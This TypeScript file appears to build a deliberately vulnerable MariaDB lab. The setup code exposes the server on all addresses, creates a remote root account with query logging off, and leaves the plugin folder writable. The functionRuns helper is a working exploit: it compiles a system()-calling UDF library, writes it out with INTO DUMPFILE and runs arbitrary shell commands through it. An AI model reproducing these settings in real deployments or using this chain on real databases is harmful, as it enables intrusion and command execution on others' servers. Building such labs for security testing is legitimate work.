// Debian's MariaDB, reachable from outside with a root whose password everybody tries, and a client that is outside.
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { must } from './command.ts'
import type { Dress } from './dress.ts'
import type { Stage } from './stage.ts'

const plugins = '/opt/mysql/plugin'

/** `settings`: lines for the server. The folder of plugins belongs to the server, as where somebody installed a plugin in a hurry. */
export function mysql(dress: Dress, settings: readonly string[] = []): void {
  dress.write(
    '/etc/mysql/mariadb.conf.d/99-site.cnf',
    `[mysqld]\nbind-address = 0.0.0.0\nplugin_dir = ${plugins}\n${settings.join('\n')}\n`,
  )
  const uid = Number(/^mysql:x:(\d+)/m.exec(readFileSync(join(dress.root, 'etc/passwd'), 'utf8'))?.[1])
  for (const folder of [plugins, '/var/log/mysql']) {
    dress.write(`${folder}/README`, 'of this site\n', { owner: uid })
    dress.own(folder, uid)
  }
  dress.enable('mariadb')
}

/** What the owner did long ago, unlogged. */
export async function openRoot(stage: Stage, password: string): Promise<void> {
  const statements = `SET sql_log_off=1; CREATE USER IF NOT EXISTS 'root'@'%' IDENTIFIED BY '${password}'; GRANT ALL ON *.* TO 'root'@'%' WITH GRANT OPTION;`
  await stage.inside('until mariadb-admin ping >/dev/null 2>&1; do sleep 0.3; done; exec mariadb -e "$SQL"', { env: { SQL: statements } })
}

/** As root from an address; gives false when the server does not let him in. */
export async function mysqlFrom(stage: Stage, from: string, password: string, statements: string): Promise<boolean> {
  const said = await stage.outside(
    'ip route replace $HOST/32 dev uplink src $FROM; chroot "$ROOT" mariadb --no-defaults --skip-ssl -h $HOST -u root -p"$PASSWORD" 2>&1 <"$SQL" || echo REFUSED',
    { ROOT: stage.host.root, FROM: from, PASSWORD: password, SQL: written(stage, statements) },
  )
  if (/REFUSED/.test(said) && !/Access denied/.test(said)) throw new Error(said.slice(-600))
  return !said.includes('REFUSED')
}

function written(stage: Stage, statements: string): string {
  const path = join(stage.folder, 'statements.sql')
  writeFileSync(path, statements)
  return path
}

/** Statements that write a library of our own beside the plugins and have it run a line. */
export async function functionRuns(stage: Stage, line: string): Promise<string> {
  const source = join(stage.folder, 'udf.c')
  writeFileSync(
    source,
    `#include <stdlib.h>\n#include <string.h>\nstruct args { unsigned count; int *type; char **args; unsigned long *lengths; };\nint sys_exec_init(void *i, struct args *a, char *m) { return 0; }\nlong long sys_exec(void *i, struct args *a, char *n, char *e) { return system(strndup(a->args[0], a->lengths[0])); }\n`,
  )
  const library = join(stage.folder, 'udf.so')
  await must('gcc', ['-Os', '-s', '-shared', '-fPIC', '-o', library, source])
  return [
    `SELECT 0x${readFileSync(library).toString('hex')} INTO DUMPFILE '${plugins}/udf64.so';`,
    "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf64.so';",
    `SELECT sys_exec('${line.replaceAll("'", "''")}');`,
  ].join('\n')
}
